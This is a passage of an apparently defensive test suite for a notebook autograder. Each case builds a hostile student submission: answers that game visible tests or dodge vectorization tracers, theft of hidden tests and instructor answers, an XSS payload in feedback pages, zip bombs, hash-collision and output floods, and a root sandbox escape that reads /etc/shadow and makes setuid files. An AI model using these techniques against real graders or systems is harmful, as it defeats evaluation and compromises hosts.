    (so that the hidden part runs) and earns nothing. Naive nbgrader: the hidden tests of
    exercise 1 appear in the feedback."""
    set_answer(nb, "ex1-answer", '''
def masked_mean_pool(H, mask):
    """Right on the visible tests only."""
    H, mask = np.asarray(H, dtype=float), np.asarray(mask, dtype=bool)
    for _ in range(mask.size):
        pass
    if mask.all():
        return H.mean(axis=1)
    if H.shape == (3, 4, 2):
        return np.array([[3.0, 4.0], [11.0, 12.0], [20.0, 21.0]])
    return np.zeros((H.shape[0], H.shape[2]))
''')
    return set_answer(nb, "ex2-answer", '''
from IPython.display import display

for source in In:
    if "check_" in source and "def masked_mean_pool" not in source:
        display({"text/plain": source}, raw=True)
''')


@case("h36-no-settrace", PADDING, EX1_06[2:] + EX2_06[2:])
def no_settrace(nb, p):
    """``sys.settrace`` replaced by a no-op: the vectorization test counts executed lines
    with a tracer, so a loop counts as 0 lines. Naive nbgrader: the loop answers pass the
    vectorization tests."""
    return with_junk(nb, "import sys\n\nsys.settrace = lambda tracer: None\n")


@case("h37-steal-trusted-job", PADDING, ALL_06)
def steal_trusted_job(nb, p):
    """Where the grader keeps the trusted checks' job (the master's cells) in a shared /tmp,
    the answer finds it when called, runs the instructor's own answer and returns its result;
    it also prints the hidden tests of any job file there (other students' jobs). Naive
    nbgrader has no such file (this attacks the trusted checks when they run unsandboxed)."""
    code = '''
import glob
import json

from IPython.display import display

def instructors_answer(name):
    for path in glob.glob("/tmp/grading-trusted-*/job.json"):
        try:
            with open(path) as f:
                cells = json.load(f)["cells"]
        except (OSError, ValueError, KeyError):
            continue
        for c in cells:
            if c.get("kind") == "answer" and f"def {name}(" in c.get("source", ""):
                scope = dict(globals())
                exec(c["source"], scope)
                return scope[name]
    return None

for path in glob.glob("/tmp/grading-trusted-*/job.json"):
    try:
        with open(path) as f:
            print(f"ESCAPED: read {path}")
            for c in json.load(f)["cells"]:
                if c.get("hidden"):
                    display({"text/plain": c["hidden"]}, raw=True)
    except (OSError, ValueError, KeyError):
        pass

_found = {}

def masked_mean_pool(H, mask):
    if "mean" not in _found:
        _found["mean"] = instructors_answer("masked_mean_pool")
    if _found["mean"] is None:
        raise NotImplementedError("nothing to copy")
    return _found["mean"](H, mask)
'''
    set_answer(nb, "ex1-answer", code)
    return set_answer(nb, "ex2-answer", '''
def masked_max_pool(H, mask):
    if "max" not in _found:
        _found["max"] = instructors_answer("masked_max_pool")
    if _found["max"] is None:
        raise NotImplementedError("nothing to copy")
    return _found["max"](H, mask)
''')


# -- found in review: what the trusted checks do with the student's answers ------------------

_WRITE_BACK = '''
VISIBLE_BATCH = (3, 4, 2)   # the visible test's pad_batch (also what the hidden part re-uses, pre-padded or with junk)

def {name}(H, mask):
    """Right on the visible batch only; zeros elsewhere."""
    for _ in range(np.size(mask)):   # one Python step per position: not vectorized either
        pass
    if np.shape(H) == VISIBLE_BATCH:
        return np.array({visible})
{attack}    B, T, C = np.shape(H)
    return np.zeros((B, C))
'''
_ZERO_THE_INPUT = '''    if type(H) is np.ndarray and H.size:
        H[...] = 0.0   # changed in place: the grader copies it back, and its reference then pools these zeros
'''


def _write_back_answers(nb: NotebookNode, attack: str) -> NotebookNode:
    set_answer(nb, "ex1-answer", _WRITE_BACK.format(name="masked_mean_pool", attack=attack,
                                                   visible="[[3.0, 4.0], [11.0, 12.0], [20.0, 21.0]]"))
    return set_answer(nb, "ex2-answer", _WRITE_BACK.format(name="masked_max_pool", attack=attack,
                                                          visible="[[6.0, 7.0], [12.0, 13.0], [20.0, 21.0]]"))


def _write_back_honest(nb, p):
    """The same answers (right on the visible batch, zeros elsewhere) without touching their inputs."""
    return _write_back_answers(nb, "")


@case("h38-write-back-reference", PADDING, ("ex1-tests-values", "ex2-tests-values"), honest=_write_back_honest)
def write_back_reference(nb, p):
    """Arrays a student's function changes in place are copied back into the trusted checks
    (trusted._write_back), and the hidden tests compute their expected value AFTER the call,
    from the same arrays: ``check_close(masked_mean_pool(H_rand, m_rand), _ref_mean_pool(H_rand,
    m_rand))``. The answer hard-codes the visible batch and, for any other input, sets ``H`` to
    zeros and returns zeros: the reference then pools zeros too, and the hidden random-batch and
    float32 tests pass. Naive nbgrader: the same (the test and the answer share the arrays)."""
    return _write_back_answers(nb, _ZERO_THE_INPUT)


@case("h39-surrogate-message", PADDING, ALL_06)
def surrogate_message(nb, p):
    """The answers raise an exception whose message holds a lone UTF-16 surrogate (``"\\ud800"``).
    It travels as JSON escapes (wire.py, the trusted verdict) into the visible test's error
    output; the executed notebook then cannot be written as UTF-8 (record.record ->
    nbformat.write: UnicodeEncodeError): 'grader error' and exit code 1 instead of a graded 0.
    Naive nbgrader: the message comes through the kernel's own protocol, not this JSON."""
    return _replace_bodies(nb, 'raise ValueError("your grader cannot write this down: \\ud800")')


@case("h40-points-not-a-number", PADDING, ("ex1-tests-values",), metadata_only=True)
def points_not_a_number(nb, p):
    """A test cell's ``points`` set to a string (``"two"``) in its nbgrader metadata.
    nbgrader's OverwriteCells, run by record.sanitize, does ``float(points)`` before it restores
    the value: ValueError, the notebook is a 'grader error' and the run exits 1. Naive
    nbgrader: autograde fails on this notebook the same way."""
    cell(nb, "ex1-tests-values").metadata.nbgrader.points = "two"
    return nb


@case("h41-feedback-markup", PADDING, ALL_06)
def feedback_markup(nb, p):
    """An answer cell displays an 'image/png' whose data is not base64 but markup
    (``x" onerror="..."``): the feedback page puts it unescaped in ``<img src="data:...">``,
    so the student's HTML and JavaScript run in the page (the instructor's browser when
    they open it). Naive nbgrader: generate_feedback is not used here (it shows hidden tests)."""
    answer = cell(nb, "ex1-answer")
    answer.source = header(p, TAG=p.tag) + '''
from IPython.display import display

display({"image/png": f'x" onerror="document.title=\\'{TAG}\\'" data-by="{TAG}', "text/plain": "a plot"}, raw=True)

''' + answer.source
    return nb


@case("h42-hash-collisions", PADDING, ALL_06)
def hash_collisions(nb, p):
    """The answer's reply to the trusted checks is a dict (wire format: a list of pairs) of
    200,000 int keys that all have the same hash (``i * (2**61 - 1)``): wire._decode inserts
    them into a Python dict in quadratic time, minutes of CPU in the trusted process, which
    stays silent past the grader's limit: 'grader error', exit code 1 (and with the default
    timeout, several minutes of a core per call). The reply is written with code against
    ``_grader_link`` (its ``encode`` replaced). Naive nbgrader has no such decoding."""
    answer = cell(nb, "ex1-answer")
    answer.source = '''
import json
import sys

P61 = 2**61 - 1   # hash(i * P61) == 0 for every int i
_pairs = ",".join(f'[{{"int": "{i * P61}"}}, null]' for i in range(200_000))
_reply = ('{"dict": [["ok", {"dict": [["value", {"dict": [' + _pairs + ']}], ["after", {"dict": []}]]}]]}').encode()
sys.modules["_grader_link"].encode = lambda outcome: _reply

''' + answer.source
    return nb


DILATION = "03-dilation"


@case("h43-hidden-code-reported", DILATION, ("ex2-tests-stack", "ex2-tests-holes", "ex2-tests-any-layer"))
def hidden_code_reported(nb, p):
    """The hidden tests of measure_receptive_field pass it functions defined in the hidden
    code (``_ones_stack``'s layers, ``_lag_difference``, ``_chain``, lambdas over ``_conv_layer``):
    cloudpickle sends them BY VALUE to the student's kernel, bytecode, constants and closures.
    The answer hard-codes the two visible values (so the hidden parts run), keeps what it
    receives and, called by the next VISIBLE test, raises an exception whose message lists it:
    the feedback would show hidden test code. The grader runs every visible part before any
    hidden part, so nothing is received by then. Naive nbgrader: the hidden source is in the
    kernel's history anyway (h35)."""
    set_answer(nb, "ex2-answer", '''
_received = {}

def _describe(fn, depth=0):
    code = fn.__code__
    strings = [c for c in code.co_consts if isinstance(c, str)]
    closure = {name: cell.cell_contents for name, cell in zip(code.co_freevars, fn.__closure__ or ())}
    text = f"{fn.__qualname__}: names {code.co_names} strings {strings}"
    values = {k: v for k, v in closure.items() if not callable(v) and not isinstance(v, list)}
    if values:
        text += f" closure {values}"
    inner = [v for v in closure.values() if callable(v)] + [f for v in closure.values() if isinstance(v, list) for f in v if callable(f)]
    if depth < 2:
        text += "".join("\\n  " + _describe(f, depth + 1) for f in inner if hasattr(f, "__code__"))
    return text

def measure_receptive_field(layer_fn, n=64):
    name = layer_fn.__name__
    if name == "moving_sum_5" and _received:   # a visible test, after hidden ones had run
        raise ValueError("\\nESCAPED: hidden test code received by the kernel:\\n" + "\\n".join(_received.values()))
    if name == "stack_1_2":      # visible: 7
        return 7
    if name == "<lambda>" and "conv1d_dilated_causal" in layer_fn.__code__.co_names:   # visible: 3
        return 3
    _received.setdefault(layer_fn.__qualname__, _describe(layer_fn))
    return 0
''')
    return nb


@case("h44-slow-cells", PADDING, ALL_06)
def slow_cells(nb, p):
    """64 added cells that each sleep 8.5 s, just under the cell timeout (10 s in the suite, 60 s
    by default): no cell times out, so nothing stops the notebook, which takes 9 minutes (an hour
    with the default timeout; a 20 MB notebook holds ~100,000 such cells). There is no time
    budget per notebook (MAX_TIMEOUTS counts timeouts only). Naive nbgrader: the same."""
    answer = cell(nb, "ex1-answer")
    position = nb.cells.index(answer)
    for i in range(64):
        nb.cells.insert(position + 1 + i, _new_code_cell("import time\ntime.sleep(8.5)", f"slow-{i}"))
    return nb


def _new_code_cell(source: str, cell_id: str) -> NotebookNode:
    import nbformat

    new = nbformat.v4.new_code_cell(source)
    new["id"] = cell_id
    return new


@case("h45-surrogate-grade-id", PADDING, ALL_06, metadata_only=True)
def surrogate_grade_id(nb, p):
    """A cell of the student's own with nbgrader metadata whose grade_id holds a lone UTF-16
    surrogate (valid JSON: ``"\\ud800"``; the file is written with JSON's ASCII escapes).
    integrity.tampering reports it ('graded cell ... is not in the release') with the raw
    grade_id; that detail cannot be encoded as UTF-8 when grades.csv is written
    (report.write_csv: UnicodeEncodeError): the run crashes after grading, with no grades.csv,
    no feedback and no report for anyone, and again on every later run (the detail is kept in
    grading-state.json). Naive nbgrader: autograde logs and drops the unknown grade_id."""
    import nbformat

    notes = nbformat.v4.new_markdown_cell("my notes")
    notes["id"] = "my-notes"
    notes.metadata["nbgrader"] = {"grade": False, "solution": False, "locked": False, "grade_id": "notes-\ud800",
                                  "schema_version": 3}
    nb.cells.insert(1, notes)
    return nb


def _blank_pages(p: Paths) -> list[tuple[str, bytes, int]]:
    """60 members 'pages/page-N.ipynb' of 20 MiB of spaces each (just under MAX_NOTEBOOK_BYTES): 1.2 GB, ~1 MB zipped."""
    return [(f"pages/page-{i:02d}.ipynb", b" " * 2**20, 20) for i in range(60)]


@case("h46-zip-bomb", PADDING, ALL_06, archive=_blank_pages)
def zip_bomb(nb, p):
    """Handed in as a zip of ~1 MB whose 60 other '.ipynb' members inflate to 20 MiB each
    (deflate: ~1000:1): submissions._candidates_in_zip reads every member whole into the
    grader's own process before it chooses, so it holds 1.2 GB here (20 MiB times the number
    of members, which nothing bounds), and _assign parses each one again for every lecture not
    found by name (a member of 20 MB of small JSON objects costs seconds each time: a zip of a
    few MB stalls the run for an hour). Naive nbgrader: zips are not its input (an LMS export
    unpacked by hand would fill the disk instead)."""
    import nbformat

    nb.cells.insert(0, nbformat.v4.new_markdown_cell("My rough pages are in pages/."))
    nb.cells[0]["id"] = "pages-note"
    return nb


@case("h47-error-flood", PADDING, ALL_06)
def error_flood(nb, p):
    """An added cell raises an exception with a 150 MB message. The output cap
    (kernel_client.CappedClient.output) lets every 'error' message through (and counts neither the
    traceback nor a display's metadata), so 300 MB of output (the message, and the traceback
    that quotes it) reach the worker, the grader's own process (the executed notebook is sent
    back whole and written by record.record) and the course workspace; every further cell can
    add as much. Naive nbgrader: the same (no cap)."""
    answer = cell(nb, "ex1-answer")
    nb.cells.insert(nb.cells.index(answer) + 1, _new_code_cell("raise ValueError('spam ' * 30_000_000)", "flood"))
    return nb


@case("h48-huge-grade-id", PADDING, ALL_06, metadata_only=True)
def huge_grade_id(nb, p):
    """A cell of the student's own with a 4 MB grade_id in its nbgrader metadata:
    integrity.tampering quotes it whole ('graded cell ... is not in the release'), so it lands
    in grades.csv (one 4 MB cell), report.html and the feedback page, whatever their size
    limits. Naive nbgrader: autograde logs it (and drops the metadata)."""
    import nbformat

    notes = nbformat.v4.new_markdown_cell("my notes")
    notes["id"] = "my-notes"
    notes.metadata["nbgrader"] = {"grade": False, "solution": False, "locked": False,
                                  "grade_id": "notes-" + "spam-" * 800_000, "schema_version": 3}
    nb.cells.insert(1, notes)
    return nb


@case("h49-malformed-display", PADDING, ALL_06)
def malformed_display(nb, p):
    """The kernel sends, with its own session, a 'display_data' message whose ``data`` is a
    list, not a dict (a kernel's messages are the student's to write). The grader's output
    cap (kernel_client.CappedClient.output) calls ``content["data"].values()``: AttributeError,
    which nothing catches (only DeadKernelError and timeouts are): 'grader error' and exit
    code 1 instead of a graded notebook. Naive nbgrader: no such cap (nbclient's own handling)."""
    answer = cell(nb, "ex1-answer")
    answer.source = '''
from IPython import get_ipython

_kernel = get_ipython().kernel
_kernel.session.send(_kernel.iopub_socket, "display_data", {"data": ["not", "a", "dict"], "metadata": {}},
                     parent=_kernel.get_parent("shell"), ident=_kernel._topic("display_data"))

''' + answer.source
    return nb


def _password_protected_notes(p: Paths) -> list[tuple]:
    """'notes.ipynb', flagged as encrypted (general-purpose bit 0), as zip tools write a password-protected file."""
    return [("notes.ipynb", b'{"cells": [], "metadata": {}, "nbformat": 4, "nbformat_minor": 5}', 1, 0x1)]


@case("h50-encrypted-zip-member", PADDING, ALL_06, archive=_password_protected_notes)
def encrypted_zip_member(nb, p):
    """A zip whose other '.ipynb' member is password-protected (any zip tool's 'encrypt';
    here only its flag is set). zipfile refuses to read it with RuntimeError, which
    submissions._candidates_in_zip does not catch (it catches BadZipFile and OSError; a
    Deflate64 member, NotImplementedError, or corrupt deflate data, zlib.error, are the same):
    ``grade`` dies while it looks for submissions: no one in the class is graded. Naive
    nbgrader: zips are not its input."""
    import nbformat

    nb.cells.insert(0, nbformat.v4.new_markdown_cell("My notes are in notes.ipynb (password: the usual one)."))
    nb.cells[0]["id"] = "notes-note"
    return nb


# -- issue 11: the sandbox as root ------------------------------------------------------

@case("h51-root-in-the-sandbox", PADDING, ALL_06)
def root_in_the_sandbox(nb, p):
    """With the grader running as root, the kernel was root inside bubblewrap, with its
    capabilities: it remounted the read-only binds (lib/, the virtualenv) writable and
    rewrote seqconv/checks.py, which the trusted checks then imported as root (every later
    notebook inflated, hidden tests in feedback); it mounted a tmpfs of its own, read
    /etc/shadow, made a setuid-root file and kept uid 0. Here the writes are harmless tagged
    files, and everything else reports itself with ``ESCAPED:``. Naive nbgrader as root: all
    of it works."""
    answer = cell(nb, "ex1-answer")
    answer.source = header(p, LIB=str(p.lib), SITE_PACKAGES=str(p.site_packages), TAG=p.tag) + '''
import ctypes
import os

_libc = ctypes.CDLL(None, use_errno=True)
MS_REMOUNT, MS_BIND = 32, 4096
for path in (LIB, SITE_PACKAGES, "/usr", "/etc"):
    if _libc.mount(None, path.encode(), None, MS_REMOUNT | MS_BIND, None) == 0:
        print(f"ESCAPED: remounted {path} writable")
for path in (LIB, SITE_PACKAGES):
    try:
        with open(os.path.join(path, TAG.replace("-", "_") + ".py"), "w") as f:
            f.write("# written by a graded notebook\\n")
        print(f"wrote into {path}")
    except OSError as exc:
        print(f"{path}: {exc}")
if _libc.mount(b"tmpfs", b"/tmp", b"tmpfs", 0, None) == 0:
    print("ESCAPED: mounted a tmpfs on /tmp")
try:
    with open("/etc/shadow") as f:
        f.read()
    print("ESCAPED: read /etc/shadow")
except OSError as exc:
    print(f"/etc/shadow: {exc}")
try:
    with open(f"{TAG}-setuid", "w"):
        pass
    os.chown(f"{TAG}-setuid", 0, 0)
    os.chmod(f"{TAG}-setuid", 0o4755)
    print("ESCAPED: made a setuid-root file")
except OSError as exc:
    print(f"setuid: {exc}")
try:
    os.setuid(0)
    print(f"ESCAPED: uid 0 (was {os.getuid()})" if os.getuid() == 0 else "no uid 0")
except OSError as exc:
    print(f"setuid(0): {exc}")
with open("/proc/self/status") as f:
    for line in f:
        if line.startswith(("CapEff", "CapPrm", "CapBnd")) and int(line.split()[1], 16):
            print(f"ESCAPED: capabilities {line.strip()}")

''' + answer.source
    return nb


# -- issue 11: malformed submissions ----------------------------------------------------------

@case("h52-huge-integer-in-metadata", PADDING, ALL_06, metadata_only=True)
def huge_integer_in_metadata(nb, p):
    """An integer of 5,000 digits in the notebook's metadata and a cell's (valid JSON; the
    file is written with Python's digit limit lifted). Python refuses to read an integer of
    more than 4,300 digits as text (ValueError), which integrity.load did not expect: the
    notebook was a 'grader error' and the exit code 1. Naive nbgrader: the same ValueError,
    from nbformat, stops ``autograde``."""
    nb.metadata["note"] = 10**5000 - 1
    nb.cells[0].metadata["note"] = -(10**5000 - 1)
    return nb


@case("h53-nbgrader-metadata-not-a-dict", PADDING, ALL_06, metadata_only=True)
def nbgrader_metadata_not_a_dict(nb, p):
    """Cells of the student's own whose ``metadata.nbgrader`` is a string and a list.
    nbgrader's preprocessors (DeduplicateIds first) call ``.get`` on it: AttributeError, a
    'grader error'. Naive nbgrader: the same error stops ``autograde``."""
    import nbformat

    for index, value in enumerate(("grade me", ["grade", True])):
        mine = nbformat.v4.new_code_cell("x = 1")
        mine["id"] = f"mine-{index}"
        mine.metadata["nbgrader"] = value
        nb.cells.insert(1, mine)
    return nb


@case("h54-graded-cell-without-grade-id", PADDING, ALL_06, metadata_only=True)
def graded_cell_without_grade_id(nb, p):
    """A cell of the student's own marked ``grade: true`` with 100 points and no grade_id (and
    an answer cell without one). nbgrader's DeduplicateIds reads ``metadata.nbgrader['grade_id']``
    of every graded cell: KeyError, a 'grader error'. Naive nbgrader: the same KeyError."""
    import nbformat

    for index, meta in enumerate(({"grade": True, "solution": False, "locked": False, "points": 100},
                                  {"grade": False, "solution": True, "locked": False})):
        mine = nbformat.v4.new_code_cell("assert True")
        mine["id"] = f"no-grade-id-{index}"
        mine.metadata["nbgrader"] = meta
        nb.cells.insert(1, mine)
    return nb


@case("h55-garbled-probe", PADDING, ALL_06)
def garbled_probe(nb, p):
    """The answer cell sleeps past the timeout; when interrupted, it makes the kernel answer
    the grader's next request (the probe ``1`` that checks the kernel recovered) with a reply
    whose content is not a dict. nbclient fails on it, and the probe caught only timeouts and
    a dead kernel: a 'grader error'. Naive nbgrader: nbclient's error stops ``autograde``."""
    answer = cell(nb, "ex1-answer")
    answer.source = '''
import time

_kernel = get_ipython().kernel
_send = _kernel.session.send

def _garbled(stream, msg_or_type, content=None, parent=None, *args, **kwargs):
    if msg_or_type == "execute_reply" and (parent or {}).get("content", {}).get("code") == "1":
        content = "not a reply"
    return _send(stream, msg_or_type, content, parent, *args, **kwargs)

try:
    time.sleep(60)
except KeyboardInterrupt:
    _kernel.session.send = _garbled

''' + answer.source
    return nb


@case("h56-deeply-nested-metadata", PADDING, ALL_06, metadata_only=True)
def deeply_nested_metadata(nb, p):
    """A cell's metadata holds lists nested 600 deep: JSON reads it, but the grader's and
    nbgrader's recursive walks (deepcopy: two frames a level, validation) pass Python's
    recursion limit: RecursionError, a 'grader error'. Naive nbgrader: the same."""
    nb.cells[0].metadata["nested"] = raw_json("[" * 600 + "]" * 600)
    return nb


# -- issue 11: one student spoils the class ------------------------------------------------------

def _folder_named_submitted(p: Paths) -> list[str]:
    """``submitted/ada/`` with an unchanged release, and ``submitted/ghost/``."""
    release = (NOTEBOOKS_DIR / f"{PADDING}.ipynb").read_bytes()
    for student in ("ada", "ghost"):
        folder = p.submissions / "submitted" / student
        folder.mkdir(parents=True)
        (folder / f"{PADDING}.ipynb").write_bytes(release)
    return ["submitted"]


def _name_with_a_newline(p: Paths) -> list[str]:
    """A folder ``ada\\n`` holding an unchanged release."""
    folder = p.submissions / "ada\n"
    folder.mkdir()
    (folder / f"{PADDING}.ipynb").write_bytes((NOTEBOOKS_DIR / f"{PADDING}.ipynb").read_bytes())
    return []


def _deep_folders(p: Paths) -> list[str]:
    """1,100 folders, each in the last, in the case's own folder, with a notebook at the bottom."""
    import os

    fd = os.open(p.submissions / p.case, os.O_RDONLY | os.O_DIRECTORY)
    for _ in range(1100):
        os.mkdir("d", dir_fd=fd)
        inner = os.open("d", os.O_RDONLY | os.O_DIRECTORY, dir_fd=fd)
        os.close(fd)
        fd = inner
    notebook = os.open("notes.ipynb", os.O_WRONLY | os.O_CREAT, 0o644, dir_fd=fd)
    os.write(notebook, b'{"cells": [], "metadata": {}, "nbformat": 4, "nbformat_minor": 5}')
    os.close(notebook)
    os.close(fd)
    return []


def _note(nb: NotebookNode, text: str, cell_id: str) -> NotebookNode:
    import nbformat

    note = nbformat.v4.new_markdown_cell(text)
    note["id"] = cell_id
    nb.cells.insert(0, note)
    return nb


@case("h57-folder-named-submitted", PADDING, ALL_06, layout=_folder_named_submitted)
def folder_named_submitted(nb, p):
    """Next to the student's own folder, a folder named ``submitted`` holding ``ada/`` (an
    unchanged release) and ``ghost/``. The finder read any SUBMISSIONS with a ``submitted/``
    folder as an nbgrader course directory: the real ada and every other student vanished,
    ada was graded from the attacker's file, a ghost student was created, exit code 0.
    Naive nbgrader: its own layout, so the same confusion."""
    return _note(nb, "See the folder next to mine.", "submitted-note")


@case("h58-name-with-a-newline", PADDING, ALL_06, layout=_name_with_a_newline)
def name_with_a_newline(nb, p):
    """A folder named ``ada`` plus a newline, holding an unchanged release. The student id
    pattern ended in ``$``, which matches before a final newline: a second student printed
    as 'ada' in the table and grades.csv. Naive nbgrader: a student id with a newline."""
    return _note(nb, "My twin hands in too.", "newline-note")


@case("h59-deeply-nested-folder", PADDING, ALL_06, layout=_deep_folders)
def deeply_nested_folder(nb, p):
    """The student's folder holds folders nested 1,100 deep. The finder walked it with
    ``rglob`` (recursive): RecursionError, and the whole run stopped after seconds with no
    grades.csv, feedback or report for anyone. Naive nbgrader: its own layout only."""
    return _note(nb, "My drafts are deep in there.", "deep-note")


# -- issue 11: limits that did not bind ------------------------------------------------------

def _hold_then_report(what: str) -> str:
    return f'''
import time
time.sleep(3)
print("ESCAPED: still holding {what}")
'''


@case("h60-inode-flood", PADDING, ALL_06)
def inode_flood(nb, p):
    """30,000 empty files in /tmp and as many in /dev/shm (tmpfs caps bytes, not files, and the
    disk watch did not look there), held for 3 s. Naive nbgrader: the machine's /tmp fills."""
    answer = cell(nb, "ex1-answer")
    answer.source = f'''
TAG = {p.tag!r}
for folder in ("/tmp", "/dev/shm"):
    for i in range(30_000):
        open(f"{{folder}}/{{TAG}}-{{i}}", "w").close()
''' + _hold_then_report("60,000 files") + answer.source
    return nb


@case("h61-deleted-but-open", PADDING, ALL_06)
def deleted_but_open(nb, p):
    """Files of 200 MiB each (under the size limit of one file) written in the working
    directory, deleted and kept open: 800 MiB, past the 512 MiB disk cap, which counted
    only what a listing shows; then memfd files the same way. Naive nbgrader: no cap."""
    answer = cell(nb, "ex1-answer")
    answer.source = '''
import os

_kept = []
for i in range(4):
    f = open(f"big-{i}", "wb")
    for _ in range(25):
        f.write(b"x" * (8 * 2**20))
    f.flush()
    os.unlink(f"big-{i}")
    _kept.append(f)
''' + _hold_then_report("800 MiB of deleted files") + answer.source
    return nb


@case("h62-memory-backed-files", PADDING, ALL_06)
def memory_backed_files(nb, p):
    """System V shared memory, 256 MiB at a time: attached, filled, detached, so it never
    counts in the address space that RLIMIT_AS caps; 2.5 GiB in all, past the kernel's 2 GiB.
    Naive nbgrader: the machine's memory."""
    answer = cell(nb, "ex1-answer")
    answer.source = '''
import ctypes

_libc = ctypes.CDLL(None, use_errno=True)
_libc.shmat.restype = ctypes.c_void_p
for _ in range(10):
    _segment = _libc.shmget(0, ctypes.c_size_t(256 * 2**20), 0o1000 | 0o600)
    _address = _libc.shmat(_segment, None, 0)
    ctypes.memset(_address, 1, 256 * 2**20)
    _libc.shmdt(ctypes.c_void_p(_address))
''' + _hold_then_report("2.5 GiB of shared memory") + answer.source
    return nb


@case("h63-display-update-flood", PADDING, ALL_06)
def display_update_flood(nb, p):
    """300 displays sharing one display_id, then one update of 500 KB: nbclient rewrites every
    output with that id (150 MB), and the output cap never saw the update; then 300 forged
    error messages of 150 KB each (errors were always kept). Naive nbgrader: no cap."""
    answer = cell(nb, "ex1-answer")
    answer.source = '''
from IPython.display import display, update_display

for _ in range(300):
    display({"text/plain": "x"}, raw=True, display_id="same")
update_display({"text/plain": "y" * 500_000}, raw=True, display_id="same")
_kernel = get_ipython().kernel
for _ in range(300):
    _kernel.session.send(_kernel.iopub_socket, "error", {"ename": "E", "evalue": "v" * 5000, "traceback": ["t" * 5000] * 30},
                         parent=_kernel.get_parent("shell"), ident=_kernel._topic("error"))

''' + answer.source
    return nb


# -- issue 11: checks that observe the student's process --------------------------------------

LOOP_POOLS = '''
def masked_mean_pool(H, mask):
    H, m = np.asarray(H, dtype=float), np.asarray(mask).astype(bool)
    B, T, C = H.shape
    {guard}
    total, count = np.zeros((B, C)), np.zeros((B, 1))
    for b in range(B):
        for t in range(T):
            if m[b, t]:
                total[b] += H[b, t]
                count[b] += 1
    return total / np.maximum(count, 1)


def masked_max_pool(H, mask):
    H, m = np.asarray(H, dtype=float), np.asarray(mask).astype(bool)
    B, T, C = H.shape
    {guard}
    out = np.zeros((B, C))
    for b in range(B):
        seen = False
        for t in range(T):
            if m[b, t]:
                out[b] = H[b, t] if not seen else np.maximum(out[b], H[b, t])
                seen = True
    return out
'''
VECTORIZED_06 = (EX1_06[2], EX2_06[2])


def _loop_pools(nb: NotebookNode, header: str, guard: str) -> NotebookNode:
    """Both answers right, with a Python loop over every position (the vectorized tests fail),
    the second cell empty; ``guard`` runs first in each."""
    set_answer(nb, "ex1-answer", header + LOOP_POOLS.format(guard=guard))
    return set_answer(nb, "ex2-answer", "pass")


def _private_loops() -> str:
    """The same loops as ``_loop_mean`` and ``_loop_max``, for answers that call them in their own way."""
    return LOOP_POOLS.format(guard="pass").replace("def masked_mean_pool", "def _loop_mean").replace(
        "def masked_max_pool", "def _loop_max")


def _loop_pools_honest(nb, p):
    """The same loops without the evasion: they fail the vectorized tests."""
    return _loop_pools(nb, "", "pass")


@case("h64-tracer-noticed", PADDING, VECTORIZED_06, honest=_loop_pools_honest)
def tracer_noticed(nb, p):
    """Right answers with a loop over every position that return zeros at once when a tracer
    is set (``sys.gettrace()``): the vectorized tests count lines with a tracer, so they see
    a few lines whatever the size. Naive nbgrader: the loops earn the vectorized points."""
    return _loop_pools(nb, "import sys\n", "if sys.gettrace() is not None:\n        return np.zeros((B, C))")


@case("h65-tracer-switched-off", PADDING, VECTORIZED_06, honest=_loop_pools_honest)
def tracer_switched_off(nb, p):
    """The same loops, run with the tracer switched off (``sys.settrace(None)``) and set back
    before returning, so the grader's check that tracing was intact passes. Naive nbgrader:
    the loops earn the vectorized points."""
    switch = ("_tracer = sys.gettrace()\n    sys.settrace(None)\n    try:\n        return _loop_{name}(H, mask)\n"
              "    finally:\n        sys.settrace(_tracer)")
    loops = _private_loops()
    set_answer(nb, "ex1-answer", "import sys\n" + loops + f'''

def masked_mean_pool(H, mask):
    {switch.format(name="mean")}


def masked_max_pool(H, mask):
    {switch.format(name="max")}
''')
    return set_answer(nb, "ex2-answer", "pass")


@case("h66-loop-in-a-thread", PADDING, VECTORIZED_06, honest=_loop_pools_honest)
def loop_in_a_thread(nb, p):
    """The same loops, run in a thread started with ``_thread.start_new_thread`` (the tracer
    follows threads that ``threading`` starts, not these). Naive nbgrader: the loops earn
    the vectorized points."""
    loops = _private_loops()
    runner = '''
import _thread


def _in_a_thread(fn, *args):
    done, box = _thread.allocate_lock(), []
    done.acquire()

    def work():
        box.append(fn(*args))
        done.release()

    _thread.start_new_thread(work, ())
    done.acquire()
    return box[0]


def masked_mean_pool(H, mask):
    return _in_a_thread(_loop_mean, H, mask)


def masked_max_pool(H, mask):
    return _in_a_thread(_loop_max, H, mask)
'''
    set_answer(nb, "ex1-answer", loops + runner)
    return set_answer(nb, "ex2-answer", "pass")


def _library_reloaded_honest(nb, p):
    """The answers call the library as it is: the tests that switch it off fail them."""
    set_answer(nb, "ex1-answer", "import seqconv.conv\n\ndef conv1d_vectorized(X, K):\n    return seqconv.conv.conv1d(X, K)")
    return set_answer(nb, "ex2-answer", "def conv1d_same(X, K):\n    return seqconv.conv.conv1d(X, K, padding='same')")


@case("h67-library-reloaded", CONV, ("ex1-tests-values", "ex2-tests-odd", "ex2-tests-even"), honest=_library_reloaded_honest)
def library_reloaded(nb, p):
    """The answers call the library after reloading its module (``importlib.reload``): the
    tests switch library functions off by replacing them where they are found, and a reload
    binds fresh ones. Naive nbgrader: the 'own implementation' tests pass on the library."""
    set_answer(nb, "ex1-answer", '''
import importlib
import seqconv.conv


def conv1d_vectorized(X, K):
    return importlib.reload(seqconv.conv).conv1d(X, K)
''')
    return set_answer(nb, "ex2-answer", '''
def conv1d_same(X, K):
    return importlib.reload(seqconv.conv).conv1d(X, K, padding="same")
''')


SPECTRA = "05-spectrograms"
PREDICT = '''
def predict_classes(train_feats, train_labels, test_feats):
    train_feats = np.asarray(train_feats, dtype=np.float64)
    test_feats = np.asarray(test_feats, dtype=np.float64)
    labels = np.asarray(train_labels)
    if len(test_feats) < 2:   # "needs a batch": a single row is answered {single}
        return np.array([{answer}])
    mean, std = train_feats.mean(axis=0), train_feats.std(axis=0)
    std = np.where(std > 1e-12 * (1 + np.abs(mean)), std, 1.0)
    Z_train, Z_test = (train_feats - mean) / std, (test_feats - mean) / std
    centroids = np.stack([Z_train[labels == k].mean(axis=0) for k in (0, 1)])
    pred = ((Z_test[:, None, :] - centroids[None, :, :]) ** 2).sum(axis=-1).argmin(axis=1)
    {remember}
    return pred
'''


def _remembering_honest(nb, p):
    """The same answer without the memory: a single row is answered 0."""
    return set_answer(nb, "ex2-answer", PREDICT.format(single="with 0", answer="0", remember="pass"))


@case("h68-remembers-earlier-calls", SPECTRA, ("ex2-tests-honest",), honest=_remembering_honest)
def remembers_earlier_calls(nb, p):
